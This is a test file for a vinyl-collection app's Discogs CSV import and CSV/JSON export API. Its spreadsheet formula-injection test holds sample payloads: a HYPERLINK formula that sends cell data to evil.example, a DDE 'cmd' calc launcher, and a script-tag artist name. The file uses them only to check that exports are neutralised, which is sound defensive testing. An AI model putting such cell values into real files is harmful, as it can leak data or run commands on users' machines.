import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repoRoot } from '@/config.js';
import {
  createOwnDatabase,
  createRecord,
  createSpin,
  createTestApp,
  createUser,
  loginAgent,
  NO_COLLECTION_DETAILS,
  signedInUser,
  type Agent,
  type TestApp,
} from '@/test/harness.js';
import { DISCOGS_COLUMNS } from '@spincrate/contract';

const SAMPLE_PATH = path.join(repoRoot, '..', 'shared', 'data', 'discogs-collection.csv');
const sampleCsv = readFileSync(SAMPLE_PATH, 'utf8');
const sampleRows = parse(sampleCsv, { columns: true, bom: true }) as Array<Record<string, string>>;
const HEADER = DISCOGS_COLUMNS.join(',');
const MELLOW = 10;

interface StoredRecord {
  id: number;
  title: string;
  artist: string;
  details: string;
  date_added: Date;
  coverart: string | null;
  tags: string[];
  lookup_pending: boolean;
  import_id: number | null;
  mood_id: number;
}

let testApp: TestApp;
let dropDatabase: () => Promise<void>;

// A database of its own: the look-up workers of servers other test files start must not
// enrich these records while the tests look at them.
beforeAll(async () => {
  const own = await createOwnDatabase();
  dropDatabase = own.drop;
  testApp = createTestApp({ env: { DATABASE_URL: own.url } });
});
afterAll(async () => {
  await testApp?.close();
  await dropDatabase?.();
});

/** The user's records as stored, oldest first (the collection's "Oldest Records" order). */
function storedRecords(userId: number): Promise<StoredRecord[]> {
  return testApp.db.query<StoredRecord>(
    `SELECT id, title, artist, details, date_added, coverart, tags, lookup_pending, import_id, mood_id
       FROM records WHERE user_id = $1 ORDER BY date_added, id`,
    [userId],
  );
}

function importCsv(agent: Agent, csv: string) {
  return agent.post('/api/record/import').send({ csv, mood: MELLOW });
}

describe('POST /api/record/import', () => {
  it('imports the 99 albums of the sample export into an empty crate', async () => {
    const { user, agent } = await signedInUser(testApp);
    const res = await importCsv(agent, sampleCsv);
    expect(res.status).toBe(202);
    expect(res.body).toEqual({
      id: expect.any(Number),
      status: 'enriching',
      lookups: 'running',
      total: 99,
      imported: 99,
      duplicates: 0,
      failed: 0,
      enriched: 0,
      errors: [],
    });

    const records = await storedRecords(user.id);
    expect(records).toHaveLength(99);
    // Oldest first is the file's order, each with its Date Added as date_added.
    expect(records.map((r) => [r.artist, r.title, r.date_added.toISOString()])).toEqual(
      sampleRows.map((row) => [row.Artist, row.Title, `${row['Date Added']!.replace(' ', 'T')}.000Z`]),
    );
    for (const record of records) {
      expect(record).toMatchObject({
        coverart: null,
        tags: [],
        lookup_pending: true,
        import_id: res.body.id,
        mood_id: MELLOW,
      });
    }
    const kindOfBlue = records.find((r) => r.title === 'Kind Of Blue')!;
    expect(kindOfBlue.details).toBe(
      'Label: Columbia · Cat#: CL 1355 · Format: LP, Album, Mono · Released: 1959 · Media: Mint (M) · Sleeve: Good Plus (G+)',
    );

    // As the API returns them: the fallback cover and no tags, newest first.
    const backup = await agent.get('/api/record/export?format=json');
    expect(backup.body.records).toHaveLength(99);
    expect(backup.body.records[0]).toMatchObject({
      title: sampleRows[98]!.Title,
      coverart: expect.stringMatching(/\/covers\/fallback\.svg$/),
      tags: '[]',
      mood: 'Mellow',
    });
  });

  it('fills the collection details of the 99 albums from their Discogs columns', async () => {
    const { agent } = await signedInUser(testApp);
    expect((await importCsv(agent, sampleCsv)).status).toBe(202);
    const crate = (await agent.get('/api/record?sort=oldest')).body as Array<Record<string, unknown>>;
    expect(crate).toHaveLength(99);
    // API.md "Collection details": Rating 0 (or empty) = none, CollectionFolder Uncategorized = none.
    const text = (cell: string | undefined) => (cell ? cell : null);
    expect(
      crate.map((r) => [
        r.rating,
        r.folder,
        r.media_condition,
        r.sleeve_condition,
        r.label,
        r.catalog_number,
        r.format,
        r.discogs_release_id,
      ]),
    ).toEqual(
      sampleRows.map((row) => [
        row.Rating && row.Rating !== '0' ? Number(row.Rating) : null,
        row.CollectionFolder === 'Uncategorized' ? null : row.CollectionFolder,
        text(row['Collection Media Condition']),
        text(row['Collection Sleeve Condition']),
        text(row.Label),
        text(row['Catalog#']),
        text(row.Format),
        row.release_id ? Number(row.release_id) : null,
      ]),
    );
    const kindOfBlue = crate.find((r) => r.title === 'Kind Of Blue')!;
    expect(kindOfBlue).toMatchObject({
      rating: 5,
      folder: 'Jazz',
      media_condition: 'Mint (M)',
      sleeve_condition: 'Good Plus (G+)',
      label: 'Columbia',
      catalog_number: 'CL 1355',
      format: 'LP, Album, Mono',
      price: null,
      location: null,
    });
    const folders = (await agent.get('/api/record/folders')).body as Array<{
      folder: string;
      records: number;
    }>;
    expect(folders).toContainEqual({ folder: 'Jazz', records: 11 });
    expect(folders.reduce((sum, f) => sum + f.records, 0)).toBe(50);
  });

  it('keeps a grade that is not in the list, a rating out of 1–5 and a bad release id out of the fields', async () => {
    const { agent } = await signedInUser(testApp);
    const csv =
      `${HEADER}\n` +
      'X-1,Band,Graded Oddly,Lbl,LP,7,1990,abc,Uncategorized,2020-01-01 00:00:00,Excellent (EX),Slightly Torn,\n' +
      `X-2,Band,Zero Rating,Lbl,LP,0,1990,4242,${'f'.repeat(61)},2020-01-02 00:00:00,Poor (P),No Cover,\n` +
      'X-3,Band,Release,Lbl,LP,2,1990,987654,Shelf 2,2020-01-03 00:00:00,,Generic,\n';
    expect((await importCsv(agent, csv)).body).toMatchObject({ imported: 3, failed: 0 });
    const crate = (await agent.get('/api/record?sort=oldest')).body as Array<Record<string, unknown>>;
    expect(crate[0]).toMatchObject({
      rating: null,
      media_condition: null,
      sleeve_condition: null,
      discogs_release_id: null,
      folder: null,
      details:
        'Label: Lbl · Cat#: X-1 · Format: LP · Released: 1990 · Media: Excellent (EX) · Sleeve: Slightly Torn',
    });
    expect(crate[1]).toMatchObject({
      rating: null,
      folder: null,
      media_condition: 'Poor (P)',
      sleeve_condition: 'No Cover',
      discogs_release_id: 4242,
    });
    expect(crate[2]).toMatchObject({
      rating: 2,
      folder: 'Shelf 2',
      sleeve_condition: 'Generic',
      discogs_release_id: 987654,
    });
  });

  it('applies every row rule of a Discogs export', async () => {
    const { user, agent } = await signedInUser(testApp);
    await createRecord(testApp.db, user.id, {
      artist: 'The Beatles',
      title: 'Abbey Road',
      details: 'mine already',
    });
    const csv =
      `\uFEFF${HEADER}\r\n` +
      // 1: quoted fields with "" escapes, a line break and inch marks
      `"A-1","The ""Quoted"" Band","Two\r\nLines",Label,"12"", LP, Album",4,1971,,Uncategorized,2020-05-01 10:00:00,Mint (M),Generic,"Said ""hi""\r\nthen left"\r\n` +
      // 2: a row that stops early, with the disambiguation suffix
      `B-2,Nirvana (2),Bleach,Sub Pop\r\n` +
      // 3: non-ASCII names, no Date Added
      `C-3,Sigur Rós,Ágætis byrjun,Smekkleysa,LP,,0,,,,,,\r\n` +
      // 4: a duplicate of a record already in the crate (ignoring case)
      `D-4,the beatles,ABBEY ROAD,Apple,LP,,1969,,,2020-01-01 00:00:00,,,\r\n` +
      // 5: no artist
      `E-5,,Nameless,,,,,,,,,,\r\n` +
      // 6: a duplicate of row 2 (after the suffix is removed, ignoring case)
      `F-6,NIRVANA,bleach,,,,,,,,,,\r\n` +
      // 7: no title
      `G-7,Someone,,,,,,,,,,,\r\n` +
      // 8: text that looks like HTML is stored as it is
      `H-8,<script>alert(1)</script>,<b>Bold</b> & Co,,,,,,,2021-02-03 04:05:06,,,<i>note</i>\r\n`;
    const before = Date.now();
    const res = await importCsv(agent, csv);
    const after = Date.now();
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({
      status: 'enriching',
      total: 8,
      imported: 4,
      duplicates: 2,
      failed: 2,
      enriched: 0,
      errors: [
        { row: 5, message: 'Artist is empty' },
        { row: 7, message: 'Title is empty' },
      ],
    });

    const imported = (await storedRecords(user.id)).filter((r) => r.import_id === res.body.id);
    const byTitle = new Map(imported.map((r) => [r.title, r]));
    expect([...byTitle.keys()].sort()).toEqual([
      '<b>Bold</b> & Co',
      'Bleach',
      'Two\r\nLines',
      'Ágætis byrjun',
    ]);
    expect(byTitle.get('Two\r\nLines')).toMatchObject({
      artist: 'The "Quoted" Band',
      date_added: new Date('2020-05-01T10:00:00Z'),
      details:
        'Label: Label · Cat#: A-1 · Format: 12", LP, Album · Released: 1971 · Media: Mint (M) · Sleeve: Generic · Notes: Said "hi"\r\nthen left',
    });
    expect(byTitle.get('Bleach')).toMatchObject({ artist: 'Nirvana', details: 'Label: Sub Pop · Cat#: B-2' });
    const sigurRos = byTitle.get('Ágætis byrjun')!;
    expect(sigurRos).toMatchObject({
      artist: 'Sigur Rós',
      details: 'Label: Smekkleysa · Cat#: C-3 · Format: LP',
    });
    expect(sigurRos.date_added.getTime()).toBeGreaterThanOrEqual(before - 1000);
    expect(sigurRos.date_added.getTime()).toBeLessThanOrEqual(after + 1000);
    expect(byTitle.get('<b>Bold</b> & Co')).toMatchObject({
      artist: '<script>alert(1)</script>',
      details: 'Cat#: H-8 · Notes: <i>note</i>',
    });
    // The record that was already there is untouched.
    expect((await storedRecords(user.id)).filter((r) => r.title === 'Abbey Road')).toHaveLength(1);
  });

  it('reports a row without artist or title by its data row number when a quoted field spans lines', async () => {
    const { agent } = await signedInUser(testApp);
    const csv = `Artist,Title,Collection Notes\nA,B,"one\ntwo\nthree"\n,No artist,\nC,D,"x\ny"\nNo title,,\n`;
    const res = await importCsv(agent, csv);
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({ total: 4, imported: 2, failed: 2 });
    expect(res.body.errors).toEqual([
      { row: 2, message: 'Artist is empty' },
      { row: 4, message: 'Title is empty' },
    ]);
  });

  it('reports the first 1,000 failed rows and counts them all', async () => {
    const { agent } = await signedInUser(testApp);
    const res = await importCsv(agent, `Artist,Title\nA,B\n${',No artist\n'.repeat(1500)}`);
    expect(res.body).toMatchObject({ total: 1501, imported: 1, failed: 1500 });
    expect(res.body.errors).toHaveLength(1000);
    expect(res.body.errors[999]).toEqual({ row: 1001, message: 'Artist is empty' });
  });

  it('counts a second import of the same file as duplicates only', async () => {
    const { user, agent } = await signedInUser(testApp);
    const first = await importCsv(agent, sampleCsv);
    const second = await importCsv(agent, sampleCsv);
    expect(first.body).toMatchObject({ imported: 99, duplicates: 0 });
    expect(second.body).toMatchObject({ status: 'done', total: 99, imported: 0, duplicates: 99, failed: 0 });
    expect(await storedRecords(user.id)).toHaveLength(99);
  });

  it('stores each album once when two imports of the same file run at once', async () => {
    const { user, agent } = await signedInUser(testApp);
    const [a, b] = await Promise.all([importCsv(agent, sampleCsv), importCsv(agent, sampleCsv)]);
    expect(a.body.imported + b.body.imported).toBe(99);
    expect(a.body.duplicates + b.body.duplicates).toBe(99);
    expect(await storedRecords(user.id)).toHaveLength(99);
  });

  it('answers 400 for a file that is not a Discogs export, and stores nothing', async () => {
    const { user, agent } = await signedInUser(testApp);
    for (const csv of ['Name,Album\nA,B\n', 'just some text', '{"records": []}']) {
      const res = await importCsv(agent, csv);
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({
        code: 'validation_failed',
        fields: { csv: expect.any(String) },
      });
    }
    expect(await storedRecords(user.id)).toEqual([]);
  });

  it.each([
    ['an unknown mood', { mood: 999 }],
    ['a malformed mood', { mood: 'abc' }],
    ['no mood', {}],
  ])('answers 400 for %s', async (_name, fields) => {
    const { agent } = await signedInUser(testApp);
    const res = await agent.post('/api/record/import').send({ csv: sampleCsv, ...fields });
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'validation_failed', fields: { mood: expect.any(String) } });
  });

  it('answers 400 without csv', async () => {
    const { agent } = await signedInUser(testApp);
    const res = await agent.post('/api/record/import').send({ mood: MELLOW });
    expect(res.status).toBe(400);
    expect(res.body.error.fields).toEqual({ csv: 'is required' });
  });

  it('answers 413 for a csv over 5 MB, and for a body over 6 MB', async () => {
    const { user, agent } = await signedInUser(testApp);
    const row = 'Some Artist,Some Title\n';
    const over5 = `Artist,Title\n${row.repeat(Math.ceil((5 * 1024 * 1024) / row.length))}`;
    const res = await importCsv(agent, over5);
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('payload_too_large');
    const over6 = await importCsv(
      agent,
      `Artist,Title\n${row.repeat(Math.ceil((6 * 1024 * 1024) / row.length))}`,
    );
    expect(over6.status).toBe(413);
    expect(over6.body.error.code).toBe('payload_too_large');
    expect(await storedRecords(user.id)).toEqual([]);
  });

  it('answers 401 without a session', async () => {
    const res = await importCsv(testApp.agent(), sampleCsv);
    expect(res.status).toBe(401);
    expect(res.body.error.code).toBe('unauthenticated');
  });
});

describe('GET /api/record/import/{id}', () => {
  it('answers the import with its progress counted from the records', async () => {
    const { agent } = await signedInUser(testApp);
    const created = await importCsv(agent, `Artist,Title\nA,One\nB,Two\n,Three\nA,one\n`);
    const id = created.body.id as number;
    const res = await agent.get(`/api/record/import/${id}`);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      id,
      status: 'enriching',
      lookups: 'running',
      total: 4,
      imported: 2,
      duplicates: 1,
      failed: 1,
      enriched: 0,
      errors: [{ row: 3, message: 'Artist is empty' }],
    });

    await testApp.db.query(
      `UPDATE records SET lookup_pending = false WHERE id = (SELECT min(id) FROM records WHERE import_id = $1)`,
      [id],
    );
    expect((await agent.get(`/api/record/import/${id}`)).body).toMatchObject({
      status: 'enriching',
      enriched: 1,
    });
    await testApp.db.query('UPDATE records SET lookup_pending = false WHERE import_id = $1', [id]);
    expect((await agent.get(`/api/record/import/${id}`)).body).toMatchObject({
      status: 'done',
      lookups: 'done',
      enriched: 2,
    });
  });

  it('answers 404 for an import of another user, exactly as for one that does not exist', async () => {
    const { agent: owner } = await signedInUser(testApp);
    const { agent: other } = await signedInUser(testApp);
    const created = await importCsv(owner, 'Artist,Title\nA,B\n');
    const theirs = await other.get(`/api/record/import/${created.body.id}`);
    const missing = await other.get('/api/record/import/2147483647');
    expect(theirs.status).toBe(404);
    expect(theirs.body).toEqual(missing.body);
  });

  it.each(['abc', '-1', '1.5', '1e3', '0', '2147483648'])('answers 400 for the id %j', async (id) => {
    const { agent } = await signedInUser(testApp);
    const res = await agent.get(`/api/record/import/${id}`);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('validation_failed');
  });

  it('answers 401 without a session', async () => {
    expect((await testApp.agent().get('/api/record/import/1')).status).toBe(401);
  });
});

describe('records added in the app survive export and re-import', () => {
  it('keeps date_added (whole seconds) and emoji names of up to 200 characters', async () => {
    const { agent } = await signedInUser(testApp);
    const emoji = '😀'.repeat(200);
    for (const [artist, title] of [
      ['Portishead', 'Dummy'],
      [emoji, 'Two hundred faces'],
    ]) {
      const added = await agent
        .post('/api/record/add')
        .send({ artist, title, mood: MELLOW, details: 'bought used' });
      expect(added.status).toBe(201);
      expect(added.body.date_added).toMatch(/:\d{2}\.000Z$/);
    }
    const crate = (await agent.get('/api/record')).body as Array<Record<string, string>>;
    const csv = (await agent.get('/api/record/export?format=csv')).text;

    const { agent: other } = await signedInUser(testApp);
    const imported = await importCsv(other, csv);
    expect(imported.status).toBe(202);
    expect(imported.body).toMatchObject({ imported: 2, failed: 0, errors: [] });
    const copy = (await other.get('/api/record')).body as Array<Record<string, string>>;
    const pick = (records: Array<Record<string, string>>) =>
      records.map(({ artist, title, date_added, details }) => ({ artist, title, date_added, details }));
    expect(pick(copy)).toEqual(pick(crate));
  });
});

describe('the CSV export never writes a cell a spreadsheet would run as a formula', () => {
  // API.md: "a cell that begins with =, +, -, @, a tab or a carriage return is written with
  // a leading ', and the import removes that one ' again, so export then import is still exact."
  const DANGEROUS = /^[=+\-@\t\r]/;

  it('writes such cells behind one leading quote and imports them back exactly', async () => {
    const { user: source, agent: sourceAgent } = await signedInUser(testApp);
    const records = [
      // As a corrected title from the metadata service, or a Discogs file, could carry it.
      { artist: 'Mallory', title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' },
      { artist: '+44 Band', title: "@SUM(1+1)*cmd|' /C calc'!A0" },
      { artist: '-M-', title: '\tTabbed', details: 'Label: =Label · Cat#: -001 · Notes: @notes' },
      { artist: 'Carriage', title: '\rReturn' },
      // A real leading quote before an ordinary character is no protection: kept as it is.
      { artist: "'Til Tuesday", title: 'Voices Carry' },
      // A real leading quote before a formula character: written with one more quote.
      { artist: "''Quoted", title: "'=x", details: "''+y" },
      { artist: 'Plain', title: '1 + 1 = 2', details: 'a@b' },
    ];
    for (const [i, record] of records.entries()) {
      await createRecord(testApp.db, source.id, {
        ...record,
        dateAdded: new Date(Date.UTC(2024, 0, 1, 0, 0, i)).toISOString(),
      });
    }

    const exported = await sourceAgent.get('/api/record/export?format=csv');
    expect(exported.status).toBe(200);
    const rows = parse(exported.text, { columns: true }) as Array<Record<string, string>>;
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(DANGEROUS);
    }
    expect(rows.map((row) => [row.Artist, row.Title])).toEqual([
      ['Mallory', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
      ["'+44 Band", "'@SUM(1+1)*cmd|' /C calc'!A0"],
      ["'-M-", "'\tTabbed"],
      ['Carriage', "'\rReturn"],
      ["'Til Tuesday", 'Voices Carry'],
      ["''Quoted", "''=x"],
      ['Plain', '1 + 1 = 2'],
    ]);
    expect(rows[2]).toMatchObject({ Label: "'=Label", 'Catalog#': "'-001", 'Collection Notes': "'@notes" });
    expect(rows[5]!['Collection Notes']).toBe("'''+y");

    const target = await createUser(testApp.db);
    const reimport = await importCsv(await loginAgent(testApp, target), exported.text);
    expect(reimport.body).toMatchObject({ imported: records.length, failed: 0 });
    const pick = (stored: StoredRecord[]) =>
      stored.map(({ artist, title, details }) => ({ artist, title, details }));
    expect(pick(await storedRecords(target.id))).toEqual(pick(await storedRecords(source.id)));
    expect((await storedRecords(target.id)).map((r) => r.title)).toContain(records[0]!.title);
  });
});

describe('GET /api/record/export', () => {
  it('downloads the crate as a Discogs collection export', async () => {
    const { user, agent } = await signedInUser(testApp);
    await createRecord(testApp.db, user.id, {
      artist: 'Miles Davis',
      title: 'Kind of Blue',
      details: 'Label: Columbia · Cat#: CL 1355 · Format: 12", LP · Released: 1959 · Notes: Signed',
      dateAdded: '2019-03-21T12:17:22.500Z',
    });
    const res = await agent.get('/api/record/export?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="spincrate-crate.csv"');
    expect(res.text).toBe(
      `${HEADER}\n` +
        'CL 1355,Miles Davis,Kind of Blue,Columbia,"12"", LP",,1959,,Uncategorized,2019-03-21 12:17:22,,,Signed\n',
    );
  });

  it('gives records that import into an empty crate with the same artist, title, date added and details', async () => {
    const { user: source, agent: sourceAgent } = await signedInUser(testApp);
    expect((await importCsv(sourceAgent, sampleCsv)).status).toBe(202);
    const handMade = [
      {
        artist: 'Foo (2)',
        title: 'Quote "this", and\nthat',
        details: '2015 reissue',
        dateAdded: '2021-01-02T03:04:05.678Z',
      },
      {
        artist: 'Ünïcødé Band',
        title: '<b>Bold</b>',
        details: 'Label: Hand · typed',
        dateAdded: '2022-06-07T08:09:10Z',
      },
      { artist: 'Plain', title: 'No details', details: '', dateAdded: '2023-01-01T00:00:00Z' },
      {
        artist: 'Notes',
        title: 'Prefixed',
        details: 'Notes: looks like the layout',
        dateAdded: '2023-01-02T00:00:00Z',
      },
      {
        artist: 'Zero',
        title: 'Year',
        details: 'Format: LP · Released: 0',
        dateAdded: '2023-01-03T00:00:00Z',
      },
    ];
    for (const record of handMade) await createRecord(testApp.db, source.id, record);
    // Collection details set in the app that the Discogs columns carry without touching details.
    await createRecord(testApp.db, source.id, {
      artist: 'Rated',
      title: 'In a folder',
      details: 'kept as it is',
      dateAdded: '2023-01-04T00:00:00Z',
      collection: { rating: 2, folder: 'Shelf 2', discogs_release_id: 123456 },
    });

    const exported = await sourceAgent.get('/api/record/export?format=csv');
    expect(exported.status).toBe(200);

    const target = await createUser(testApp.db);
    const targetAgent = await loginAgent(testApp, target);
    const reimport = await importCsv(targetAgent, exported.text);
    expect(reimport.body).toMatchObject({ total: 105, imported: 105, duplicates: 0, failed: 0 });

    const summary = (records: StoredRecord[]) =>
      records.map((r) => ({
        artist: r.artist,
        title: r.title,
        details: r.details,
        seconds: Math.floor(r.date_added.getTime() / 1000),
      }));
    expect(summary(await storedRecords(target.id))).toEqual(summary(await storedRecords(source.id)));
    // Every collection detail a Discogs column carries comes back as it was.
    const details = async (agent: Agent) =>
      ((await agent.get('/api/record?sort=oldest')).body as Array<Record<string, unknown>>).map((r) => ({
        title: r.title,
        rating: r.rating,
        folder: r.folder,
        media_condition: r.media_condition,
        sleeve_condition: r.sleeve_condition,
        label: r.label,
        catalog_number: r.catalog_number,
        format: r.format,
        discogs_release_id: r.discogs_release_id,
        year: r.year,
      }));
    const before = await details(sourceAgent);
    expect(before.filter((r) => r.rating !== null).length).toBeGreaterThan(60);
    expect(before.find((r) => r.title === 'In a folder')).toMatchObject({
      rating: 2,
      folder: 'Shelf 2',
      discogs_release_id: 123456,
    });
    expect(await details(targetAgent)).toEqual(before);
  });

  it('downloads a JSON backup of records and spins', async () => {
    const { user, agent } = await signedInUser(testApp);
    const older = await createRecord(testApp.db, user.id, {
      title: 'Blue',
      artist: 'Joni Mitchell',
      tags: ['folk'],
      coverart: 'https://example.com/blue.jpg',
      dateAdded: '2020-01-01T00:00:00Z',
      year: 1971,
    });
    const newer = await createRecord(testApp.db, user.id, {
      title: 'Hejira',
      artist: 'Joni Mitchell',
      dateAdded: '2021-01-01T00:00:00Z',
    });
    const spin = await createSpin(testApp.db, user.id, [newer, older], {
      listenedAt: '2026-11-02',
      minutes: 65,
      details: 'Sunday',
    });
    const { user: stranger } = await signedInUser(testApp);
    await createRecord(testApp.db, stranger.id, { title: 'Not mine' });

    const res = await agent.get('/api/record/export?format=json');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="spincrate-crate.json"');
    expect(res.body).toEqual({
      records: [
        {
          id: newer,
          user_id: user.id,
          title: 'Hejira',
          artist: 'Joni Mitchell',
          coverart: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/covers\/fallback\.svg$/),
          date_added: '2021-01-01T00:00:00.000Z',
          mood: 'Mellow',
          mood_id: MELLOW,
          details: '',
          tags: '[]',
          play_count: 1,
          last_played: '2026-11-02',
          year: null,
          barcode: null,
          mb_release_group_id: null,
          ...NO_COLLECTION_DETAILS,
          // No cover fetched (API.md "Covers served by Spincrate").
          cover: null,
        },
        {
          id: older,
          user_id: user.id,
          title: 'Blue',
          artist: 'Joni Mitchell',
          coverart: 'https://example.com/blue.jpg',
          date_added: '2020-01-01T00:00:00.000Z',
          mood: 'Mellow',
          mood_id: MELLOW,
          details: '',
          tags: '["folk"]',
          play_count: 1,
          last_played: '2026-11-02',
          year: 1971,
          barcode: null,
          mb_release_group_id: null,
          ...NO_COLLECTION_DETAILS,
          // No cover fetched (API.md "Covers served by Spincrate").
          cover: null,
        },
      ],
      spins: [
        {
          id: spin,
          listened_at: '2026-11-02',
          time_spent: '1:05',
          spin_details: 'Sunday',
          // Every Spin has these (API.md "ListenBrainz"): no start given, not sent.
          started_at: null,
          scrobble: { state: 'off', listens: 0, message: null },
          albums: [newer, older],
        },
      ],
      // API.md "Wantlist": the JSON backup has the wants under `wants` (none here).
      wants: [],
    });
  });

  it('downloads an empty crate', async () => {
    const { agent } = await signedInUser(testApp);
    expect((await agent.get('/api/record/export?format=csv')).text).toBe(`${HEADER}\n`);
    expect((await agent.get('/api/record/export?format=json')).body).toEqual({
      records: [],
      spins: [],
      wants: [],
    });
  });

  it.each(['', '?format=xml', '?format=CSV', '?format=csv&format=json'])(
    'answers 400 for %j',
    async (query) => {
      const { agent } = await signedInUser(testApp);
      const res = await agent.get(`/api/record/export${query}`);
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({
        code: 'validation_failed',
        fields: { format: expect.any(String) },
      });
      expect(res.headers['content-disposition']).toBeUndefined();
    },
  );

  it('answers 401 without a session', async () => {
    expect((await testApp.agent().get('/api/record/export?format=csv')).status).toBe(401);
  });
});
